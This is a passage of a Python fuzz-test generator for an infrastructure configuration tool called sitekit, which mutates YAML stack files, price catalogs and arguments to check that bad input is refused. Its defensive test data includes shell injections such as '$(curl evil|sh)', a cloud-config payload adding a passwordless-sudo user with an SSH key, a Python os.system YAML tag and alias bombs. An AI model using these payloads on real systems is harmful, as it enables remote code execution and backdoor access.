"""Generated bad input for every file kind and argument sitekit reads, and how to judge what sitekit did with it.

Used by tests/test_fuzz.py (a bounded, seeded sample in `make test`; SITEKIT_FUZZ_EXAMPLES=10000 for a
nightly-sized run) and by bench/fuzz_report.py (counts per surface, family and outcome, for the README).

A `Case` is one input: a file of the project (a stack file, a jurisdiction profile, the baseline, a catalog
file, the price catalog) replaced by mutated bytes, or by something that is not a file at all, and the site to
load; or a command line; or a preview document. Families:

- text: the shipped bytes cut short, with a hostile token inserted (a NUL, a 0xff byte, a tab, `&a`, `*a`,
  `!!`, `<<: `, `? `, quotes, brackets), a line deleted, repeated, swapped or re-indented;
- data: the shipped file parsed, one value replaced by a hostile one (null, true, "2", 1.0, 10**400, inf,
  nan, "", a 5,000-character string, a list, a mapping, "0.0.0.0/0", an impossible date, an OCID of the wrong
  type), a key deleted, added with a near-miss spelling or renamed, a named item repeated;
- hostile: the whole file replaced (or led) by an empty file, `~`, a scalar, a list, binary bytes, Latin-1,
  UTF-16, an alias bomb, nesting 5,000 deep (flow) and 400 deep (block), a recursive alias, a Python tag, a
  merge key, a complex key, 20,000 extra keys, 1.1 MB, two documents, a 5,000-digit integer, a control character;
- fs: a folder, a dangling symlink, a symlink loop, a FIFO, an unreadable file, its folder made a file, or a
  link to a copy outside the project (which must be refused);
- rule: an edit that breaks one documented rule or bound (README, "Bounds and uniqueness"); the refusal
  must name the file and the key.

The newer surfaces (issue 17) have families of their own: peer (a stack file's address plan, peers, region or
jurisdiction broken, loaded as the peer of another site, with the plan cache's keys), args (`new-site` with
numbers past float range, NaN, infinities, long and odd text), output (every bad report path of `review
--output`, `policy --output`, `fleet --html`, `review --preview-json`), preview (a `pulumi preview --json`
document mutated, cut, replaced by a hostile one), and rule cases for each (a peer's malformed plan, a bad
argument, a malformed step, formerNames, `sitekit:overrides: null`, a baseline item without its name, a
100,000-character value, the price catalog's figures, keys and date).

`run_case` judges a case as `reader` says: in-process through `load_site`, the loader every command uses (the
price catalog through `load_prices`, as fleet and review read it; a preview document through `load_preview`;
a command line through the `sitekit` app), under a wall-clock alarm, and classifies the outcome: ok, refused
(every line `file:line: ...`, or `where: key: ...` for an argument or a JSON document, at most `MAX_LINE`
characters), bad-lines, crash (any other exception: a traceback at the command line), hang (past
`HANG_SECONDS`), or accepted-invalid (a rule case that loaded or exited 0, or was refused without naming its
file and key; a price catalog that prices a plan negative or not finite, or whose JSON is not JSON).
"""

from __future__ import annotations

import copy
import json
import os
import re
import shutil
import signal
import stat
import tempfile
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable, Iterator

import yaml
from hypothesis import strategies as st

SITES = {"us-ashburn": "us", "ar-patagonia": "ar", "br-saopaulo": "br"}
STACKS = {f"stacks/Pulumi.{site}.yaml": site for site in SITES}
PROFILES = {f"stacks/jurisdictions/{code}.yaml": site for site, code in SITES.items()}
PRICES = "stacks/catalog/prices.yaml"
SHARED = ["stacks/baseline.yaml", "stacks/catalog/shapes.yaml", "stacks/catalog/regions.yaml", PRICES]
FILES = list(STACKS) + list(PROFILES) + SHARED

HANG_SECONDS = float(os.environ.get("SITEKIT_FUZZ_HANG_SECONDS", "5"))
"""An input that takes longer than this to load is a hang (the alarm stops it at four times as long)."""

LINE = re.compile(r"^[^\s:][^:]*:[0-9]+: \S.*$")
"""A refusal line: `file:line: dotted.key: what is wrong` (the key is absent for a whole-file problem)."""

ARG_LINE = re.compile(r"^[^\s:][^:]*(:[0-9]+)?: \S.*$")
"""A refusal line of a command-line argument or of a file that is not YAML (a report path, a preview document):
`where[:line]: key: what is wrong`, `where` being the command (`sitekit new-site`) or the path."""

MAX_LINE = 1_000
"""The longest refusal line: values are quoted clipped (a line quoting a 100,000-character value whole is not
one a person can read)."""


@dataclass(frozen=True)
class Case:
    family: str
    file: str  # the project file the case replaces
    site: str  # the site loaded
    content: bytes | None = None  # the new bytes, or None for a filesystem case
    fs: str | None = None  # dir, dangling, loop, fifo, unreadable, parent-file
    expect: tuple[str, str] | None = None  # (file, key) a refusal must name: a rule case
    note: str = ""
    args: tuple[str, ...] = ()  # a command line (`reads` "cli"), run in the project
    reads: str = ""  # how the case is judged (see `reader`): site, prices, peer, preview, cli

    def __repr__(self) -> str:  # Hypothesis prints the failing case: keep it readable
        body = f"{len(self.content)} bytes" if self.content is not None else f"fs={self.fs}"
        args = f", args={[a if len(a) < 40 else f'{a[:20]}...({len(a)})' for a in self.args]}" if self.args else ""
        return (f"Case({self.family}/{self.note[:80]}, {self.file[:80]}, site={self.site}, {body}{args}, "
                f"expect={self.expect and tuple(e[:80] for e in self.expect)})")


@dataclass
class Outcome:
    kind: str  # ok, refused, bad-lines, crash, hang, accepted-invalid
    seconds: float
    lines: list[str] = field(default_factory=list)
    detail: str = ""
    where: str = ""  # a crash: the innermost sitekit frame (module:line), to count distinct places


def crash(exc: BaseException) -> Outcome:
    """A traceback at the command line: the exception, and where in sitekit it was raised."""
    import traceback

    frames = [f for f in traceback.extract_tb(exc.__traceback__) if "/sitekit/" in f.filename.replace(os.sep, "/")]
    where = f"{frames[-1].filename.replace(os.sep, '/').rsplit('/sitekit/', 1)[1]}:{frames[-1].lineno}" if frames else "?"
    return Outcome("crash", 0.0, detail=f"{type(exc).__name__} at {where}: {str(exc)[:300]}", where=where)


# ------------------------------------------------------------------------------------------------ pristine data
class Pristine:
    """The shipped files' bytes and parsed data, read once."""

    def __init__(self, root: Path):
        self.root = root
        self.raw = {f: (root / f).read_bytes() for f in FILES}
        self.data = {f: yaml.safe_load(self.raw[f]) for f in FILES}
        self.paths = {f: list(_paths(self.data[f])) for f in FILES}


def _paths(value: Any, path: tuple = ()):
    if path:
        yield path
    if isinstance(value, dict):
        for k, v in value.items():
            yield from _paths(v, path + (k,))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            yield from _paths(v, path + (i,))


def _get(data: Any, path: tuple) -> Any:
    for part in path:
        data = data[part]
    return data


def _dump(data: Any) -> bytes:
    return yaml.dump(data, Dumper=yaml.CSafeDumper, sort_keys=False, allow_unicode=True, width=10**6).encode()


def _copy(data: Any) -> Any:
    return copy.deepcopy(data)


def _site_of(file: str) -> st.SearchStrategy[str]:
    site = STACKS.get(file) or PROFILES.get(file)
    return st.just(site) if site else st.sampled_from(sorted(SITES))


# ------------------------------------------------------------------------------------------------ families
TOKENS = [b"\x00", b"\xff", b"\xc3", b"\t", b"&a ", b"*a", b"*b ", b"!!", b"!!python/name:os.system ", b"<<: ",
          b"? ", b"'", b'"', b"[", b"]", b"{", b"}", b": ", b"- ", b"#", b"\n", b"  ", b"%YAML 1.1\n", b"---\n",
          b"\x07", b"\xe2\x80\xa8", b"~", b"|\n", b">-\n", b"@", b"`", b"\\"]


@st.composite
def text_cases(draw, pristine: Pristine) -> Case:
    file = draw(st.sampled_from(FILES))
    raw = pristine.raw[file]
    lines = raw.split(b"\n")
    op = draw(st.sampled_from(["truncate", "insert", "delete-line", "repeat-line", "swap-lines", "indent", "dedent"]))
    if op == "truncate":
        out = raw[: draw(st.integers(0, len(raw)))]
    elif op == "insert":
        at = draw(st.integers(0, len(raw)))
        out = raw[:at] + draw(st.sampled_from(TOKENS)) + raw[at:]
    else:
        i = draw(st.integers(0, len(lines) - 1))
        if op == "delete-line":
            lines = lines[:i] + lines[i + 1:]
        elif op == "repeat-line":
            lines = lines[: i + 1] + lines[i:]
        elif op == "swap-lines":
            j = draw(st.integers(0, len(lines) - 1))
            lines[i], lines[j] = lines[j], lines[i]
        elif op == "indent":
            lines[i] = b"  " + lines[i]
        else:
            lines[i] = lines[i][2:] if lines[i].startswith(b"  ") else lines[i]
        out = b"\n".join(lines)
    return Case("text", file, draw(_site_of(file)), out, note=op)


HOSTILE_VALUES: list[Any] = [None, True, False, 0, -1, 1.5, 1.0, "2", "1.0", "true", "yes", 10**400, -(10**400),
                             float("inf"), float("nan"), "", "x" * 5000, [], {}, [1, 2], {"a": 1}, "0.0.0.0/0",
                             "10.0.0.0/33", "2099-02-30", "ocid1.vcn.oc1..aaaa", "ocid1.tenancy.oc1.." + "a" * 300,
                             "sitekti", 65536, "0", "-1", "a\nb", "../../etc/passwd", "{{ x }}", "é" * 10]


@st.composite
def data_cases(draw, pristine: Pristine) -> Case:
    file = draw(st.sampled_from(FILES))
    data = _copy(pristine.data[file])
    paths = pristine.paths[file]
    path = paths[draw(st.integers(0, len(paths) - 1))]
    parent, last = _get(data, path[:-1]), path[-1]
    op = draw(st.sampled_from(["replace", "replace", "delete", "add-key", "rename-key", "repeat-item"]))
    note = op
    if op == "replace":
        parent[last] = draw(st.sampled_from(HOSTILE_VALUES))
    elif op == "delete":
        del parent[last]
    elif op in ("add-key", "rename-key") and isinstance(parent, dict):
        name = str(last)
        typo = draw(st.sampled_from([name + "s", name[:-1], name[1:] + name[:1], name.upper(), "x" + name, "extra"]))
        value = parent.pop(last) if op == "rename-key" else draw(st.sampled_from(HOSTILE_VALUES))
        parent[typo] = value
    elif op == "repeat-item" and isinstance(parent, list):
        parent.append(_copy(parent[last]))
    else:
        parent[last] = draw(st.sampled_from(HOSTILE_VALUES))
        note = "replace"
    return Case("data", file, draw(_site_of(file)), _dump(data), note=note)


def _alias_bomb(levels: int = 9) -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels):
        refs = ", ".join([f"*a{i - 1}"] * 9)
        lines.append(f"a{i}: &a{i} [{refs}]")
    return "\n".join(lines) + "\n"


def _under(file: str, text: str, alone: bool = True) -> str:
    """`text` (top-level YAML) placed where the file kind reads it: under `config:` of a stack file (a new
    document, or lines appended to a shipped stack file, which ends inside `config:`)."""
    if file in STACKS:
        return ("config:\n" if alone else "") + "".join(f"  {line}\n" for line in text.splitlines())
    return text


_HOSTILE: dict[str, dict[str, bytes]] = {}


def hostile_documents(file: str, raw: bytes) -> dict[str, bytes]:
    if file not in _HOSTILE:
        _HOSTILE[file] = _hostile_documents(file, raw)
    return _HOSTILE[file]


def _hostile_documents(file: str, raw: bytes) -> dict[str, bytes]:
    original = raw.decode()
    if not original.endswith("\n"):
        original += "\n"
    tail = "sitekit:ociProfile" if file in STACKS else "x"  # a key no shipped file sets
    many = "".join(f"sitekit:extra{i}: {i}\n" if file in STACKS else f"extra{i}: {i}\n" for i in range(20_000))
    return {
        "empty": b"",
        "null": b"~\n",
        "scalar": b"42\n",
        "list": b"- a\n- b\n",
        "binary": bytes(range(256)) * 4,
        "latin-1": ("# café\n" + original).encode("latin-1", "replace"),
        "utf-16": original.encode("utf-16"),
        "alias-bomb": _under(file, _alias_bomb()).encode(),
        "deep-nesting": ("a: " + "[" * 5000 + "]" * 5000 + "\n").encode(),
        "deep-block": "".join("  " * i + f"k{i}:\n" for i in range(400)).encode(),
        "recursive-alias": (original + _under(file, f"{tail}: &a {{x: *a}}", False)).encode(),
        "python-tag": (original + _under(file, f"{tail}: !!python/object/apply:os.system ['true']", False)).encode(),
        "merge-key": (original + _under(file, f"{tail}: {{<<: {{envelopeMw: 1}}, pue: 1.2}}", False)).encode(),
        "complex-key": (original + _under(file, "? [a, b]\n: c", False)).encode(),
        "many-keys": (original + _under(file, many, False)).encode(),
        "oversize": (original + "#" * 1_100_000 + "\n").encode(),
        "two-documents": (original + "---\n" + original).encode(),
        "huge-integer": (original + _under(file, f"{tail}: " + "9" * 5000, False)).encode(),
        "control-char": (original + "\n# \x07\n").encode(),
        "bom": b"\xef\xbb\xbf" + raw,
    }


@st.composite
def hostile_cases(draw, pristine: Pristine) -> Case:
    file = draw(st.sampled_from(FILES))
    docs = hostile_documents(file, pristine.raw[file])
    name = draw(st.sampled_from(sorted(docs)))
    return Case("hostile", file, draw(_site_of(file)), docs[name], note=name)


FS_OPS = ["dir", "dangling", "loop", "fifo", "unreadable", "parent-file", "outside"]


def fs_case(file: str, site: str, op: str) -> Case:
    """`file` replaced by what `op` makes; a link leading out of the project must be refused naming the file."""
    return Case("fs", file, site, None, fs=op, note=op, expect=(file, "") if op == "outside" else None)


@st.composite
def fs_cases(draw, pristine: Pristine) -> Case:
    file = draw(st.sampled_from(FILES))
    return fs_case(file, draw(_site_of(file)), draw(st.sampled_from(FS_OPS)))


# ------------------------------------------------------------------------------------------------ rule cases
def _stack_edit(pristine: Pristine, site: str, edit: Callable[[dict], Any]) -> bytes:
    data = _copy(pristine.data[f"stacks/Pulumi.{site}.yaml"])
    edit(data["config"])
    return _dump(data)


def _edit(pristine: Pristine, file: str, edit: Callable[[dict], Any]) -> bytes:
    data = _copy(pristine.data[file])
    edit(data)
    return _dump(data)


def _set(mapping: dict, key: str, value: Any) -> None:
    mapping[key] = value


def _overrides(config: dict, tree: dict) -> None:
    config["sitekit:overrides"] = tree


def _named(items: list, name: str) -> dict:
    return next(i for i in items if i["name"] == name)


def rule_case(pristine: Pristine, site: str, name: str, index: int) -> Case:
    """The rule case `name` with its `index`-th bad value, on `site`."""
    _, edit, values = next(r for r in RULES if r[0] == name)
    value = values[index]
    stack, profile = f"stacks/Pulumi.{site}.yaml", f"stacks/jurisdictions/{SITES[site]}.yaml"
    file, content, key = edit(pristine, site, stack, profile, "stacks/baseline.yaml", value)
    return Case("rule", file, site, content, expect=(file, key), note=f"{name}={value!r}"[:80],
                reads="peer" if name == "long-peer-name" else "")


@st.composite
def rule_cases(draw, pristine: Pristine) -> Case:
    """One edit that breaks a documented rule; the refusal must name `expect` (file, key)."""
    name, _, values = draw(st.sampled_from(RULES))
    return rule_case(pristine, draw(st.sampled_from(sorted(SITES))), name, draw(st.integers(0, len(values) - 1)))


def _pool_nodes(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: _set(c["sitekit:pools"][0], "nodes", v)), "compute.pools.train.nodes"


def _top_integer(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: _set(c, "sitekit:availabilityDomain", v)), "site.availabilityDomain"


def _nsg_port(p, site, stack, profile, base, v):
    def edit(d):
        d["network"]["nsgs"][0]["rules"][0]["ports"] = v
    return base, _edit(p, base, edit), "network.nsgs.lb.rules.0.ports"


def _collector_port(p, site, stack, profile, base, v):
    tree = {"bootstrap": {"logging": {"forward": "syslog-tls", "collector": f"logs.example.org:{v}"}}}
    return stack, _stack_edit(p, site, lambda c: _overrides(c, tree)), "bootstrap.logging.collector"


def _repeat_baseline_item(p, site, stack, profile, base, v):
    section, listing, name = v

    def edit(d):
        items = d[section][listing]
        items.append(_copy(_named(items, name)))
    return base, _edit(p, base, edit), f"{section}.{listing}.{name}"


def _repeat_pool(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: c["sitekit:pools"].append(_copy(c["sitekit:pools"][0]))), \
        "compute.pools.train"


def _dedicated_public(p, site, stack, profile, base, v):
    def edit(c):
        c["sitekit:regionKind"] = "dedicated"
        c["sitekit:region"] = v
    return stack, _stack_edit(p, site, edit), "site.regionKind"


def _wrong_ocid(p, site, stack, profile, base, v):
    key, ocid = v
    return stack, _stack_edit(p, site, lambda c: _set(c, f"sitekit:{key}", ocid)), f"site.{key}"


def _namespace(p, site, stack, profile, base, v):
    def edit(c):
        c[f"{v}:pools"] = c.pop("sitekit:pools")
    return stack, _stack_edit(p, site, edit), f"config.{v}:pools"


def _profile_code(p, site, stack, profile, base, v):
    return profile, _edit(p, profile, lambda d: _set(d["jurisdiction"], "code", v)), "jurisdiction.code"


def _site_sets_code(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: _overrides(c, {"jurisdiction": {"code": v}})), "jurisdiction.code"


def _lock_unknown(p, site, stack, profile, base, v):
    def edit(d):
        d["jurisdiction"]["locked"].append({"key": v, "basis": "test"})
    n = len(p.data[profile]["jurisdiction"]["locked"])
    return profile, _edit(p, profile, edit), f"jurisdiction.locked.{n}.key"


def _timezone(p, site, stack, profile, base, v):
    return base, _edit(p, base, lambda d: _set(d["bootstrap"], "timezone", v)), "bootstrap.timezone"


# injection payloads (issue 17): every free-text field that reaches a node's user data, given a value that would
# add lines, keys, users or shell of its own; each must be refused at its key.
SUDO = "users:\n  - {name: evil, sudo: 'ALL=(ALL) NOPASSWD:ALL', ssh_authorized_keys: [ssh-ed25519 AAAAevil]}"
INJECTIONS = [
    f"-w /etc/passwd -p wa -k identity\n{SUDO}",       # a newline adds lines of its own
    "-w /etc/passwd -p wa -k identity\n- -w /tmp",      # a YAML list item breaks out
    "-w /etc/passwd -p wa\n#cloud-config\nruncmd: [[sh, -c, id]]",  # a second cloud-config smuggled in
    "-w /etc/passwd -p wa -k x\r\nbootcmd: [id]",      # CR LF
    "-w /etc/passwd -p wa -k x\u2028users: [evil]",     # a YAML 1.1 line break that is not \n
    "-w /etc/passwd -p wa -k x\x85users: [evil]",
    "-w /etc/passwd -p wa -k x\x00",                    # a NUL
    "-w /etc/passwd -p wa -k x\t-e 0",                  # a tab
    "-w /etc/passwd -p wa -k $(curl evil|sh)",          # shell
    "-w /etc/passwd -p wa -k x -e 0",                   # a second rule on one line
    "-D",                                               # not a rule
    "-w /etc/passwd -p wa -k " + "x" * 5000,            # very long
]


def _audit_rule(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: _overrides(c, {"bootstrap": {"audit": {"groups": [
        {"name": "identity", "rules": [v], "basis": "test"}]}}})), "bootstrap.audit.groups.identity.rules.0"


def _check_command(p, site, stack, profile, base, v):
    return base, _edit(p, base, lambda d: _set(d["bootstrap"]["healthChecks"][0], "command", v)), \
        "bootstrap.healthChecks.gpu.command"


def _check_output(p, site, stack, profile, base, v):
    return base, _edit(p, base, lambda d: _set(d["bootstrap"]["healthChecks"][1], "unhealthyOutput", v)), \
        "bootstrap.healthChecks.rdma.unhealthyOutput"


def _time_server(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: _overrides(c, {"bootstrap": {"timeServers": [v]}})), \
        "bootstrap.timeServers.0"


def _agent_unit(p, site, stack, profile, base, v):
    return base, _edit(p, base, lambda d: _set(d["bootstrap"]["agents"][0], "unit", v)), "bootstrap.agents.dcgm.unit"


def _collector_host(p, site, stack, profile, base, v):
    tree = {"bootstrap": {"logging": {"forward": "syslog-tls", "collector": f"{v}:6514"}}}
    return stack, _stack_edit(p, site, lambda c: _overrides(c, tree)), "bootstrap.logging.collector"


def _throughput(p, site, stack, profile, base, v):
    return base, _edit(p, base, lambda d: _set(d["storage"]["fileSystems"][0], "throughputGbps", v)), \
        "storage.fileSystems.checkpoints.throughputGbps"


def _org_space(p, site, stack, profile, base, v):
    return base, _edit(p, base, lambda d: _set(d["organisation"], "addressSpace", [v])), "organisation.addressSpace"


def _residency_region(p, site, stack, profile, base, v):
    n = len(p.data[profile]["jurisdiction"]["residency"]["regions"])
    return profile, _edit(p, profile, lambda d: d["jurisdiction"]["residency"]["regions"].append(v)), \
        f"jurisdiction.residency.regions.{n}"


def _overlap(p, site, stack, profile, base, v):
    others = {s: p.data[f"stacks/Pulumi.{s}.yaml"]["config"]["sitekit:addressPlan"] for s in SITES if s != site}
    theirs = others[sorted(others)[v % len(others)]]
    return stack, _stack_edit(p, site, lambda c: _set(c, "sitekit:addressPlan", _copy(theirs))), \
        "site.addressPlan.supernet"


def _statement_budget(p, site, stack, profile, base, v):
    return base, _edit(p, base, lambda d: _set(d["iam"], "statementBudget", v)), "iam.statementBudget"


def _autoscale_order(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: _set(_named(c["sitekit:pools"], "serve"), "autoscale", v)), \
        "compute.pools.serve.autoscale"


def _catalog_shape(p, site, stack, profile, base, v):
    file = "stacks/catalog/shapes.yaml"
    return file, _edit(p, file, lambda d: d["shapes"].append(_copy(d["shapes"][v]))), \
        f"shapes.{p.data[file]['shapes'][v]['name']}"


def _catalog_regions(p, site, stack, profile, base, v):
    file = "stacks/catalog/regions.yaml"
    return file, _edit(p, file, lambda d: _set(d, "regions", v)), "regions"


def _overrides_kind(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: _overrides(c, v)), "config.sitekit:overrides"


def _bounded(p, site, stack, profile, base, v):
    return stack, hostile_documents(stack, p.raw[stack])[v], ""


def _former_names(p, site, stack, profile, base, v):
    """A pool's formerNames naming its own name, a live pool, each other (a cycle), or shared by two pools."""
    def edit(c):
        pools = c["sitekit:pools"]
        train, serve = _named(pools, "train"), _named(pools, "serve")
        if v == "own":
            train["formerNames"] = ["train"]
        elif v == "live":
            train["formerNames"] = ["serve"]
        elif v == "cycle":
            train["formerNames"], serve["formerNames"] = ["serve"], ["train"]
        else:  # shared
            train["formerNames"], serve["formerNames"] = ["gpu-old"], ["gpu-old"]
    return stack, _stack_edit(p, site, edit), "compute.pools"


def _unnamed_item(p, site, stack, profile, base, v):
    """A baseline item of a named list without its name: a later layer's list must not replace the baseline's."""
    path = v[:-1]

    def edit(d):
        del _get(d, path)[v[-1]]["name"]
    return base, _edit(p, base, edit), ".".join(path)


LONG = "x" * 100_000
"""A value of 100,000 characters: a refusal quotes it clipped (`MAX_LINE`)."""


def _long_value(p, site, stack, profile, base, v):
    """A 100,000-character value (or key) where a message quotes it."""
    if v == "config-key":
        return stack, _stack_edit(p, site, lambda c: _set(c, "sitekit:" + LONG, 1)), f"config.sitekit:{LONG}"
    if v == "region":
        return stack, _stack_edit(p, site, lambda c: _set(c, "sitekit:region", LONG)), "site.region"
    if v == "jurisdiction":
        return stack, _stack_edit(p, site, lambda c: _set(c, "sitekit:jurisdiction", LONG)), "site.jurisdiction"
    if v == "shape":
        return stack, _stack_edit(p, site, lambda c: _set(c["sitekit:pools"][0], "shape", LONG)), \
            "compute.pools.train.shape"
    if v == "operator-cidr":
        return stack, _stack_edit(p, site, lambda c: _set(c, "sitekit:operatorCidrs", [LONG])), \
            "security.bastion.clientCidrs"
    if v == "timezone":
        return base, _edit(p, base, lambda d: _set(d["bootstrap"], "timezone", LONG)), "bootstrap.timezone"
    if v == "nsg-peer":
        def edit(d):
            d["network"]["nsgs"][0]["rules"][0]["peer"] = LONG
        return base, _edit(p, base, edit), "network.nsgs.lb.rules.0.peer"
    if v == "baseline-key":
        return base, _edit(p, base, lambda d: _set(d["network"], LONG, 1)), f"network.{LONG}"
    # a lock on a long key
    return profile, _edit(p, profile, lambda d: d["jurisdiction"]["locked"].append({"key": LONG, "basis": "x"})), \
        f"jurisdiction.locked.{len(p.data[profile]['jurisdiction']['locked'])}.key"


PEER_OF = {"us-ashburn": "ar-patagonia", "ar-patagonia": "us-ashburn", "br-saopaulo": "us-ashburn"}
"""A site that names the key site among its peers (the shipped fleet is a hub and two spokes)."""


def peer_case(pristine: Pristine, file: str, name: str, value: Any) -> Case:
    """`file` (a stack file) with its address plan broken as `name` says; the site loaded is one of its peers,
    which must report the broken peer at its own `peers` entry."""
    site = STACKS[file]
    loaded = PEER_OF[site]

    def edit(c):
        plan = c["sitekit:addressPlan"]
        if name == "plan":
            c["sitekit:addressPlan"] = value
        elif name == "networks":
            plan["networks"] = value
        elif name == "network":
            plan["networks"]["services"] = value
        else:
            plan["supernet"] = value
    return Case("rule", file, loaded, _stack_edit(pristine, site, edit), reads="peer",
                expect=(f"stacks/Pulumi.{loaded}.yaml", f"site.peers.{site}"), note=f"peer-{name}={value!r}"[:80])


PEER_PLANS: list[tuple[str, Any]] = [("networks", ["10.64.0.0/18"]), ("networks", "10.64.0.0/18"), ("networks", 5),
                                     ("networks", None), ("plan", ["10.64.0.0/16"]), ("plan", "10.64.0.0/16"),
                                     ("network", [1]), ("network", "not-a-cidr"), ("network", 167772160),
                                     ("supernet", [1]), ("supernet", "10.64.0.0/33")]
"""Address plans a peer's stack file may hold that its peers cannot read (see `peer_case`)."""


def _long_peer(p, site, stack, profile, base, v):
    """A peer named with `v` characters: the plan cache must not build a file name from it."""
    return stack, _stack_edit(p, site, lambda c: c["sitekit:peers"].append({"site": "x" * v})), "site.peers"


def _overrides_null(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: _set(c, "sitekit:overrides", v)), "config.sitekit:overrides"


# ------------------------------------------------------------------------------------------------ prices
def _prices_value(p, site, stack, profile, base, v):
    path, value = v

    def edit(d):
        _set(_get(d, path[:-1]), path[-1], value)
    return PRICES, _edit(p, PRICES, edit), ".".join(path)


def _prices_missing(p, site, stack, profile, base, v):
    def edit(d):
        del _get(d, v[:-1])[v[-1]]
    return PRICES, _edit(p, PRICES, edit), ".".join(v)


def _prices_shape(p, site, stack, profile, base, v):
    def edit(d):
        d["gpuShapes"][v] = {"perHour": 1.0, "source": "test"}
    return PRICES, _edit(p, PRICES, edit), f"gpuShapes.{v}"


H100 = ("gpuShapes", "BM.GPU.H100.8", "perHour")


RULES: list[tuple[str, Callable, list]] = [
    ("lax-integer", _pool_nodes, ["2", 1.0, True, "2048", 2.5]),
    ("pool-nodes-bound", _pool_nodes, [10**400, 100_001, -1]),
    ("top-integer-kind", _top_integer, [1.0, True, "abc", "", [1], 4, 0]),
    ("nsg-port", _nsg_port, ["0", "65536", "99999", "70-60", "0-10"]),
    ("collector-port", _collector_port, ["0", "65536", "99999"]),
    ("unique-name", _repeat_baseline_item, [("network", "nsgs", "lb"), ("network", "networks", "gpu"),
                                            ("security", "keys", "storage"), ("storage", "buckets", "datasets"),
                                            ("compute", "pools", "train"), ("storage", "fileSystems", "datasets")]),
    ("unique-pool", _repeat_pool, [None]),
    ("dedicated-public-region", _dedicated_public, ["us-ashburn-1", "sa-saopaulo-1", "uk-london-1"]),
    ("ocid-type", _wrong_ocid, [("tenancyId", "ocid1.compartment.oc1..aaaaaaaaexample"),
                                ("parentCompartmentId", "ocid1.vcn.oc1.iad.aaaaaaaaexample"),
                                ("tenancyId", "ocid1.tenancy.oc1.." + "a" * 300), ("tenancyId", "tenancy")]),
    ("namespace", _namespace, ["sitekti", "sitkit", "sitekit2", "Sitekit"]),
    ("profile-code", _profile_code, ["zz", "usa"]),
    ("site-sets-code", _site_sets_code, ["us", "zz"]),
    ("lock-unknown-key", _lock_unknown, ["jurisdiction.vualt", "network.nsgz", "site.region.x", "nothing"]),
    ("timezone", _timezone, ["Mars/Olympus", "Europe/Berlinn", "utc", "posixrules", "UTC\nusers: [evil]",
                             "UTC\n- x", "Europe/Berlin #cloud-config"]),
    ("audit-rule-injection", _audit_rule, INJECTIONS),
    ("command-injection", _check_command, [
        "dcgmi diag --run 1; curl evil | sh", "$(curl evil)", ["$(curl evil)"], ["dcgmi; id"], ["dcgmi", "a\nb"],
        ["dcgmi", "x\u2028users: [evil]"], ["dcgmi", "\x00"], ["dcgmi", "x" * 5000], [], ["-x"], [True]]),
    ("output-injection", _check_output, INJECTIONS[:8] + ["x" * 5000, ""]),
    ("time-server-injection", _time_server, [f"169.254.169.254\n{SUDO}", "ntp.example.org\n- evil", "a b",
                                             "$(id)", "-x", "#cloud-config", "x" * 300]),
    ("agent-unit-injection", _agent_unit, ["nvidia-dcgm.service\nruncmd: [[id]]", "x.service; id", "$(id).service"]),
    ("collector-injection", _collector_host, ["logs.example.org\nusers: [evil]", 'logs" target="evil', "a b"]),
    ("throughput-bound", _throughput, [10**400, 1001, 0]),
    ("org-space", _org_space, ["0.0.0.0/0", "8.8.0.0/16", "10.0.0.0/7"]),
    ("residency-region", _residency_region, ["xx-nowhere-1", "us-ashburn-9"]),
    ("site-overlap", _overlap, [0, 1]),
    ("statement-budget", _statement_budget, [51, 0, 10**400]),
    ("autoscale-order", _autoscale_order, [{"min": 9, "max": 3}]),
    ("catalog-unique-shape", _catalog_shape, [0, 2]),
    ("catalog-regions", _catalog_regions, [None, {}, [], 5]),
    ("overrides-kind", _overrides_kind, [5, "x", [1], True]),
    ("bounded-input", _bounded, ["alias-bomb", "deep-nesting", "deep-block", "many-keys", "oversize",
                                 "recursive-alias", "python-tag", "merge-key", "complex-key", "binary", "empty"]),
    # the surfaces added since (issue 17, "Bad input on the newer surfaces")
    ("former-names", _former_names, ["own", "live", "cycle", "shared"]),
    ("overrides-null", _overrides_null, [None]),
    ("unnamed-baseline-item", _unnamed_item, [("bootstrap", "audit", "groups", 0), ("bootstrap", "audit", "groups", 1),
                                              ("compute", "pools", 1), ("storage", "buckets", 0)]),
    ("long-value", _long_value, ["config-key", "region", "jurisdiction", "shape", "operator-cidr", "timezone",
                                 "nsg-peer", "baseline-key", "lock"]),
    ("long-peer-name", _long_peer, [40, 300, 5000]),
    ("prices-number", _prices_value, [(H100, -1), (H100, float("inf")), (H100, float("nan")), (H100, "32.00"),
                                      (H100, True), (H100, 10**400), (H100, [1]),
                                      (("storage", "blockVolume", "perGbMonth"), -0.01),
                                      (("loadBalancer", "perHour"), float("nan")),
                                      (("loadBalancer", "perMbpsHour"), "0.0001"),
                                      (("hoursPerMonth",), 0), (("hoursPerMonth",), float("inf")),
                                      (("hoursPerMonth",), 100_000), (("currency",), "EUR")]),
    ("prices-missing-key", _prices_missing, [("hoursPerMonth",), ("loadBalancer", "perHour"),
                                             ("storage", "blockVolume"), H100, ("gpuShapes",), ("recorded",)]),
    ("prices-unknown-shape", _prices_shape, ["BM.GPU.H100.9", "BM.GPU.NOPE"]),
    ("prices-recorded", _prices_value, [(("recorded",), None), (("recorded",), "2026-02-30"), (("recorded",), 5),
                                        (("recorded",), "yesterday")]),
]


# ------------------------------------------------------------------------------------------------ peers
PEER_KEYS = ("sitekit:addressPlan", "sitekit:peers", "sitekit:region", "sitekit:jurisdiction")
"""What a site reads of a peer's stack file (`peering._read_peer`) and of every stack file (the plan cache)."""


@st.composite
def peer_cases(draw, pristine: Pristine) -> Case:
    """A stack file with what its peers read of it broken (a value replaced, deleted or made 100,000 characters
    long), loaded as the peer of another site: that site's load, the plan cache's keys and `sitekit sites`."""
    file = draw(st.sampled_from(sorted(STACKS)))
    data = _copy(pristine.data[file])
